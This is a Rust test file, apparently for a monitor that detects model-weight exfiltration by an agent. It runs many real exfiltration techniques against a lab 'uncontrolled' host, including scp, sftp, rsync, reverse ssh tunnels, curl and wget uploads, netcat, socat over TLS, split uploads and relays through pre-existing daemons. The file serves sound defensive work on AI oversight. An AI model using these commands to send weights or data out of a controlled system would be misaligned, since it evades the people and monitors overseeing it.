//! Over the network with real tools (TECHNIQUES 1A, 1G): uploads, downloads by the outside, relays, and every way that SSH has.

use std::{fs, net::SocketAddr, path::Path, process::Command};

use tests::lab::{
    outside::{INSIDE, UNCONTROLLED},
    process::{Finished, Identity},
};

use super::tooling::{Ssh, descendant, free_port, ok, wait_listening, wait_there};
use crate::{
    expect::Expected,
    world::{PATIENCE, Scene, Test, World, size},
};

pub(crate) const TESTS: &[Test] = &[
    ("ssh_stdin", ssh_stdin),
    ("tar_through_ssh", tar_through_ssh),
    ("scp", |w| through_ssh(w, "scp", |scene, ssh| scp(scene, ssh, &[]))),
    ("scp_by_the_old_protocol", |w| through_ssh(w, "scp", |scene, ssh| scp(scene, ssh, &["-O"]))),
    ("sftp", |w| through_ssh(w, "sftp", sftp)),
    ("rsync_over_ssh", |w| through_ssh(w, "rsync", rsync)),
    ("sshfs", sshfs),
    ("rclone_to_sftp", rclone_to_sftp),
    ("pulled_through_a_reverse_tunnel", pulled_through_a_reverse_tunnel),
    ("curl_form", |w| upload(w, Upload::Form)),
    ("curl_put", |w| upload(w, Upload::Put)),
    ("curl_data_binary", |w| upload(w, Upload::DataBinary)),
    ("wget_post_file", |w| upload(w, Upload::Wget)),
    ("netcat", netcat),
    ("socat_file_to_tcp", socat_file_to_tcp),
    ("socat_unix_to_tcp_by_an_old_daemon", socat_unix_to_tcp),
    ("socat_tls", socat_tls),
    ("python_http_server", python_http_server),
    ("busybox_httpd", busybox_httpd),
    ("split_and_uploaded_in_pieces", split_and_uploaded),
    ("renamed_and_relayed_by_old_daemons", renamed_and_relayed),
];

fn ssh_peer() -> SocketAddr {
    (UNCONTROLLED, Ssh::PORT).into()
}

fn ssh_stdin(w: &mut World) {
    let scene = w.scene();
    let ssh = Ssh::start(&scene);
    let (source, stored) = (&scene.model.files[0], ssh.home.join("w"));
    let text = format!("exec {} uncontrolled 'cat > w' < {}", ssh.command(), source.display());
    let thief = descendant(&scene.shell(&text), "ssh");
    let expected = [Expected::egress(&scene, &thief, ssh_peer(), "tcp", scene.arrived(source, &stored))];
    scene.expect(&expected);
}

fn tar_through_ssh(w: &mut World) {
    let scene = w.scene();
    let ssh = Ssh::start(&scene);
    let text = format!(
        "tar -cf - -C {} llm | {} uncontrolled 'cat > m.tar'",
        scene.controlled.display(),
        ssh.command()
    );
    let thief = descendant(&scene.shell(&text), "ssh");
    assert!(size(&ssh.home.join("m.tar")) > scene.model.bytes);
    // The archive is larger than the model, but no bound is.
    let expected = [Expected::egress(&scene, &thief, ssh_peer(), "tcp", scene.model.bytes).through(1)];
    scene.expect(&expected);
}

/// One process reads and speaks a protocol, another, its child, encrypts and sends.
fn through_ssh(w: &mut World, tool: &str, run: fn(&Scene<'_>, &Ssh) -> Identity) {
    World::needs(tool);
    let scene = w.scene();
    let ssh = Ssh::start(&scene);
    let parent = run(&scene, &ssh);
    let mut thief = descendant(&parent, "ssh");
    thief.ancestry = parent.pid.into_iter().chain(parent.ancestry.iter().copied()).collect();
    let bytes = scene.arrived(&scene.model.files[0], &ssh.home.join("w"));
    let expected = [Expected::egress(&scene, &thief, ssh_peer(), "tcp", bytes).through(1).and_a_protocol()];
    scene.expect(&expected);
}

fn scp(scene: &Scene<'_>, ssh: &Ssh, flags: &[&str]) -> Identity {
    let mut command = Command::new("scp");
    command.args(flags).arg("-q").arg("-F").arg(&ssh.config).arg(&scene.model.files[0]).arg("uncontrolled:w");
    scene.run(&mut command)
}

fn sftp(scene: &Scene<'_>, ssh: &Ssh) -> Identity {
    let batch = scene.work.join("batch");
    fs::write(&batch, format!("put {} w\n", scene.model.files[0].display())).expect("a file can be written");
    scene.run(
        Command::new("sftp").arg("-q").arg("-F").arg(&ssh.config).arg("-b").arg(&batch).arg("uncontrolled"),
    )
}

fn rsync(scene: &Scene<'_>, ssh: &Ssh) -> Identity {
    let mut command = Command::new("rsync");
    scene.run(command.arg("-e").arg(ssh.command()).arg(&scene.model.files[0]).arg("uncontrolled:w"))
}

/// To the copier it is a folder; the filesystem is served by a process that sends what is written.
fn sshfs(w: &mut World) {
    World::needs("sshfs");
    let scene = w.scene();
    let ssh = Ssh::start(&scene);
    let place = scene.work.join("mounted");
    fs::create_dir(&place).expect("a folder can be made");
    let mut server = Command::new("sshfs");
    server.arg("-f").arg("-F").arg(&ssh.config).arg("uncontrolled:").arg(&place);
    let server = scene.spawn(&mut server);
    let device =
        tests::lab::wait_for(PATIENCE, || tests::lab::volume::device_of(&place).ok()).expect("sshfs mounts");
    let (source, copy) = (&scene.model.files[0], place.join("w"));
    let cp = scene.run(Command::new("cp").arg(source).arg(&copy));
    let bytes = scene.arrived(source, &ssh.home.join("w"));
    let mount = (&*place, &*device, "fuse.sshfs");
    let expected = [Expected::copy_at(&scene, &cp, &copy, mount, bytes)];
    scene.expect(&expected);
    drop(server);
}

/// SSH without `ssh`: a client of its own in one large static program.
fn rclone_to_sftp(w: &mut World) {
    World::needs("rclone");
    let scene = w.scene();
    let ssh = Ssh::with_host_key(&scene, "rsa");
    let key = scene.work.join("ssh-user");
    let mut command = Command::new("rclone");
    let target = format!(
        ":sftp,host={UNCONTROLLED},port={},user=root,shell_type=none,key_file=\"{}\":w",
        Ssh::PORT,
        key.display()
    );
    command.args(["--config", "/dev/null", "copyto"]).arg(&scene.model.files[0]).arg(target);
    let thief = scene.run(command.env("HOME", &scene.work));
    let bytes = scene.arrived(&scene.model.files[0], &ssh.home.join("w"));
    let expected = [Expected::egress(&scene, &thief, ssh_peer(), "tcp", bytes).and_a_protocol()];
    scene.expect(&expected);
}

/// `ssh -R`: the outside asks, through a connection that was made from here, a server that listens on loopback only.
fn pulled_through_a_reverse_tunnel(w: &mut World) {
    World::needs("curl");
    let scene = w.scene();
    let ssh = Ssh::start(&scene);
    let port = free_port();
    let python = World::python();
    let mut serve = Command::new(python);
    serve
        .args(["-m", "http.server", "--bind", "127.0.0.1", &port.to_string(), "--directory"])
        .arg(&scene.model.dir);
    let server = scene.spawn(&mut serve);
    wait_listening(&server, port);
    let name = scene.model.files[0].file_name().expect("a name").to_string_lossy().into_owned();
    // Another port at the other end than here, where dropbear could reach the server by itself.
    let text = format!(
        "exec {} -R 127.0.0.1:8099:127.0.0.1:{port} uncontrolled 'curl -sS -o w http://127.0.0.1:8099/{name}'",
        ssh.command()
    );
    let thief = descendant(&scene.shell(&text), "ssh");
    let bytes = scene.arrived(&scene.model.files[0], &ssh.home.join("w"));
    let expected = [Expected::egress(&scene, &thief, ssh_peer(), "tcp", bytes).through(1).and_a_protocol()];
    scene.expect(&expected);
}

#[derive(Clone, Copy)]
enum Upload {
    Form,
    Put,
    DataBinary,
    Wget,
}

fn upload(w: &mut World, how: Upload) {
    let program = if matches!(how, Upload::Wget) { "wget" } else { "curl" };
    World::needs(program);
    let scene = w.scene();
    let source = &scene.model.files[0];
    let receiver = ok(scene.world.outside.upload(UNCONTROLLED));
    let addr = receiver.addr;
    let url = format!("http://{addr}/upload");
    let at = |before: &str| format!("{before}@{}", source.display());
    let mut command = Command::new(program);
    match how {
        Upload::Form => command.args(["-q", "-sS", "-F", &at("file="), &url]),
        Upload::Put => command.args(["-q", "-sS", "-T"]).arg(source).arg(&url),
        Upload::DataBinary => command.args(["-q", "-sS", "--data-binary", &at(""), &url]),
        Upload::Wget => command
            .args(["--no-config", "-q", "-O", "/dev/null"])
            .arg(format!("--post-file={}", source.display()))
            .arg(&url),
    };
    let thief = scene.run(command.env_remove("http_proxy"));
    let bytes = size(source);
    if matches!(how, Upload::Form) {
        // The form's own lines are around it, so its hash is another.
        assert!(ok(receiver.finish()).bytes > bytes);
    } else {
        assert_eq!(scene.received(source, receiver), bytes);
    }
    // With its headers more was sent than was taken: the bound is what was taken. But where curl gathers the file in memory
    // that grows, the growth counts as taken too (a mapping that grows is not looked at), and the headers show.
    let exact = Expected::egress(&scene, &thief, addr, "tcp", bytes);
    let expected = [if matches!(how, Upload::DataBinary) { exact.and_a_protocol() } else { exact }];
    scene.expect(&expected);
}

fn netcat(w: &mut World) {
    World::needs("nc");
    let scene = w.scene();
    let source = &scene.model.files[0];
    let receiver = ok(scene.world.outside.tcp(UNCONTROLLED));
    let addr = receiver.addr;
    let text = format!("exec nc -N {} {} < {}", addr.ip(), addr.port(), source.display());
    let thief = descendant(&scene.shell(&text), "nc");
    let bytes = scene.received(source, receiver);
    let expected = [Expected::egress(&scene, &thief, addr, "tcp", bytes)];
    scene.expect(&expected);
}

fn socat_file_to_tcp(w: &mut World) {
    World::needs("socat");
    let scene = w.scene();
    let source = &scene.model.files[0];
    let receiver = ok(scene.world.outside.tcp(UNCONTROLLED));
    let addr = receiver.addr;
    let thief = scene.run(
        Command::new("socat").arg("-u").arg(format!("OPEN:{}", source.display())).arg(format!("TCP:{addr}")),
    );
    let bytes = scene.received(source, receiver);
    let expected = [Expected::egress(&scene, &thief, addr, "tcp", bytes)];
    scene.expect(&expected);
}

/// The daemon that sends was there before the agent, and never sees a file.
fn socat_unix_to_tcp(w: &mut World) {
    World::needs("socat");
    let mut scene = w.prepare();
    let receiver = ok(scene.world.outside.tcp(UNCONTROLLED));
    let addr = receiver.addr;
    let socket = scene.work.join("relay");
    let mut daemon = Command::new("socat");
    daemon.arg("-u").arg(format!("UNIX-LISTEN:{}", socket.display())).arg(format!("TCP:{addr}"));
    let daemon = scene.spawn(&mut daemon);
    wait_there(&socket);
    scene.start();
    let source = &scene.model.files[0];
    scene.run(
        Command::new("socat")
            .arg("-u")
            .arg(format!("OPEN:{}", source.display()))
            .arg(format!("UNIX-CONNECT:{}", socket.display())),
    );
    let bytes = scene.received(source, receiver);
    let expected = [Expected::egress(&scene, &daemon.identity, addr, "tcp", bytes).through(1)];
    scene.expect(&expected);
}

/// TLS to a stranger's certificate.
fn socat_tls(w: &mut World) {
    for tool in ["openssl", "socat"] {
        World::needs(tool);
    }
    let scene = w.scene();
    let (source, stored, pem) = (&scene.model.files[0], scene.work.join("stored"), scene.work.join("pem"));
    let mut make = Command::new("openssl");
    make.args(["req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes"]);
    make.args(["-subj", "/CN=lab"]).arg("-keyout").arg(&pem).arg("-out").arg(pem.with_extension("crt"));
    ok(tests::lab::run(&mut make));
    let mut both = fs::read(&pem).expect("a key was made");
    both.extend(fs::read(pem.with_extension("crt")).expect("a certificate was made"));
    fs::write(&pem, both).expect("a file can be written");
    let addr = SocketAddr::from((UNCONTROLLED, 8443));
    let mut serve = Command::new("socat");
    let listen = format!("OPENSSL-LISTEN:8443,bind={UNCONTROLLED},reuseaddr,verify=0,cert={}", pem.display());
    serve.arg("-u").arg(listen).arg(format!("CREATE:{}", stored.display()));
    let server = scene.spawn(scene.world.outside.inside_of(&mut serve));
    wait_listening(&server, addr.port());
    let mut send = Command::new("socat");
    send.arg("-u").arg(format!("OPEN:{}", source.display())).arg(format!("OPENSSL:{addr},verify=0"));
    let thief = scene.run(&mut send);
    ok(server.finish(PATIENCE).and_then(Finished::success));
    let bytes = scene.arrived(source, &stored);
    let expected = [Expected::egress(&scene, &thief, addr, "tcp", bytes)];
    scene.expect(&expected);
}

/// Nothing here connects to the outside: the outside asks.
fn python_http_server(w: &mut World) {
    let scene = w.scene();
    let mut serve = Command::new(World::python());
    serve
        .args(["-m", "http.server", "--bind", &INSIDE.to_string(), "8080", "--directory"])
        .arg(&scene.model.dir);
    served(scene, serve, None);
}

/// A server that answers each request from a child.
fn busybox_httpd(w: &mut World) {
    World::needs("busybox");
    let scene = w.scene();
    let mut serve = Command::new("busybox");
    serve.args(["httpd", "-f", "-p", &format!("{INSIDE}:8080"), "-h"]).arg(&scene.model.dir);
    served(scene, serve, Some("busybox"));
}

/// Where each request has a child of its own, of that `program`, the server itself moves nothing.
fn served(scene: Scene<'_>, mut serve: Command, program: Option<&str>) {
    let server = scene.spawn(&mut serve);
    wait_listening(&server, 8080);
    let source = &scene.model.files[0];
    let name = source.file_name().expect("a name").to_string_lossy().into_owned();
    let client = ok(scene.world.outside.download(8080, &format!("/{name}")));
    let addr = client.addr;
    let bytes = scene.received(source, client);
    let thief =
        program.map_or_else(|| server.identity.clone(), |program| descendant(&server.identity, program));
    let expected = [Expected::egress(&scene, &thief, addr, "tcp", bytes)];
    scene.expect(&expected);
}

/// Twelve files, twelve processes, none above a line: the address is the same.
fn split_and_uploaded(w: &mut World) {
    World::needs("curl");
    let scene = w.scene();
    let parts = scene.controlled.join("parts");
    fs::create_dir(&parts).expect("a folder can be made");
    scene.run(Command::new("split").args(["-b", "1M"]).arg(&scene.model.files[0]).arg(parts.join("p")));
    let mut files: Vec<_> =
        fs::read_dir(&parts).expect("a folder can be read").flatten().map(|entry| entry.path()).collect();
    files.sort();
    let (mut bytes, mut last) = (0, None);
    for file in &files {
        let receiver = ok(scene.world.outside.upload(UNCONTROLLED));
        let url = format!("http://{}/", receiver.addr);
        let thief = scene.run(Command::new("curl").args(["-q", "-sS", "-T"]).arg(file).arg(&url));
        last = Some((descendant(&thief, "curl"), receiver.addr));
        bytes += scene.received(file, receiver);
    }
    assert_eq!(bytes, size(&scene.model.files[0]));
    let (thief, addr) = last.expect("something was uploaded");
    let expected = [Expected::egress(&scene, &thief, addr, "tcp", bytes).whatever_the_port()];
    scene.expect_beside_copies(&expected);
}

/// A hard link, renamed, read into a named pipe; a daemon that was there before the agent reads that and sends to a proxy on
/// loopback, which was there too; the proxy sends to the outside.
fn renamed_and_relayed(w: &mut World) {
    World::needs("socat");
    let mut scene = w.prepare();
    let receiver = ok(scene.world.outside.tcp(UNCONTROLLED));
    let addr = receiver.addr;
    let port = free_port();
    let pipe = scene.work.join("pipe");
    ok(tests::lab::run(Command::new("mkfifo").arg(&pipe)));
    let mut proxy = Command::new("socat");
    let proxy = scene
        .spawn(proxy.arg("-u").arg(format!("TCP-LISTEN:{port},bind=127.0.0.1")).arg(format!("TCP:{addr}")));
    wait_listening(&proxy, port);
    let mut daemon = Command::new("socat");
    let daemon = scene.spawn(
        daemon.arg("-u").arg(format!("OPEN:{},rdonly", pipe.display())).arg(format!("TCP:127.0.0.1:{port}")),
    );
    scene.start();
    let source = &scene.model.files[0];
    let [first, second] = ["one", "two.log"].map(|name| scene.controlled.join(name));
    let text = |path: &Path| path.display().to_string();
    scene.shell(&format!(
        "ln {} {} && mv {} {} && cat {} > {}",
        text(source),
        text(&first),
        text(&first),
        text(&second),
        text(&second),
        text(&pipe)
    ));
    let bytes = scene.received(source, receiver);
    ok(daemon.finish(PATIENCE).and_then(Finished::success));
    let expected = [Expected::egress(&scene, &proxy.identity, addr, "tcp", bytes)
        .through(2)
        .passing(&["asset", "process", "pipe", "process", "process", "peer"])];
    scene.expect(&expected);
}
